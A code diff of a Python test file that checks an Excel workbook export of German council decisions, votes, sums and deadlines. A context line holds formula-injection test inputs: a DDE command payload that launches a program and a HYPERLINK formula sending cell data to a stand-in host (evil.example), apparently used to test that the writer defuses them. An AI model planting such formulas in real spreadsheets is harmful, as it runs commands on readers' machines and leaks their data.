@@ -27,6 +27,7 @@ from pipeline.release.excel_workbook import FILE, in_order, shown, write_workboo
 from pipeline.release.frames import arrow_schema
 from pipeline.release.schema import public_tables
 from pipeline.release.writers import ParquetWriter, Writer
+from tests.pipeline.release.finished import finished
 
 FORMULAS = ["1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example/?q="&A1;"hier")', "IMPORTXML(A1)"]
 STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " ="]
@@ -217,6 +218,53 @@ def test_the_same_tables_give_the_same_bytes(draft: Draft, tmp_path: Path) -> No
     write_workbook(Draft(draft.id, draft.moment, copied, copied, draft.tables, draft.curation))
 
     assert (copied / FILE).read_bytes() == (draft.folder / FILE).read_bytes()
+
+
+# --- the sheets before the tables
+
+
+@pytest.fixture(scope="module")
+def made(tmp_path_factory: pytest.TempPathFactory) -> Any:
+    folder = tmp_path_factory.mktemp("made") / "release"
+    finished(folder).connection.close()
+    write_workbook(Draft("20261122T231500Z-3fa9c1d2", None, folder, folder, (), Curation()))
+    return openpyxl.load_workbook(folder / FILE)
+
+
+def test_the_first_sheets_say_what_a_vote_or_a_sum_is_about(made: Any) -> None:
+    assert made.sheetnames == ["Lies mich", "Beschlüsse und Abstimmungen", "Geld in Beschlüssen", "Termine", "Spalten"]
+    decisions, sums, due = ([dict(zip(names, row, strict=True)) for row in rows] for names, *rows in map(values_of, made.worksheets[1:4]))
+    first = decisions[0]
+    assert (first["title"], first["yes"], first["unanimous"]) == (
+        "Doppelhaushalt 2025/26, Wohnheim für Flüchtlinge in der Straße am Wehr", 13, "FALSCH",
+    )  # fmt: skip
+    assert (first["meeting_date"], first["permalink"], "search_row" in first) == (datetime(2024, 3, 12), "evidence/d1.html#close", False)  # noqa: DTZ001
+    assert [(one["amount"], one["outcome"]) for one in sums] == [(1250000, "adopted"), (90000, "adopted"), (300000, "adopted")]
+    assert [one["what"] for one in due] == ["deadline", "next report"]
+    said = {(row[1], row[2]) for row in made["Spalten"].iter_rows(values_only=True)}
+    assert {("decisions", "title"), ("money", "outcome"), ("due_dates", "due")} <= said
+
+
+def values_of(sheet: Any) -> list[tuple[Any, ...]]:
+    """The names of a sheet's columns and its rows, without the headings above."""
+    return list(sheet.iter_rows(min_row=2, values_only=True))
+
+
+def test_a_view_that_is_too_long_is_looked_for_where_it_is(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(excel_workbook, "LONGEST_MADE", 2)
+    finished(tmp_path).connection.close()
+    write_workbook(Draft("20261122T231500Z-3fa9c1d2", None, tmp_path, tmp_path, (), Curation()))
+    sheet = openpyxl.load_workbook(tmp_path / FILE)["Beschlüsse und Abstimmungen"]
+    assert sheet["A1"].value == (
+        "Beschlüsse und Abstimmungen: 3 Zeilen, zu viele für ein Blatt. Die ganze Tabelle: die Sicht decisions in beschlussbuch.sqlite."
+    )
+
+
+def test_sheets_are_printed_lengthwise_with_their_headings(made: Any) -> None:
+    for sheet in made:
+        assert (sheet.page_setup.orientation, int(sheet.page_setup.paperSize)) == ("landscape", 9)
+    assert made["Termine"].print_title_rows == "$1:$2"
+    assert made["Lies mich"].sheet_properties.pageSetUpPr.fitToPage
 
 
 # --- LibreOffice, which takes text for numbers and days as Excel does
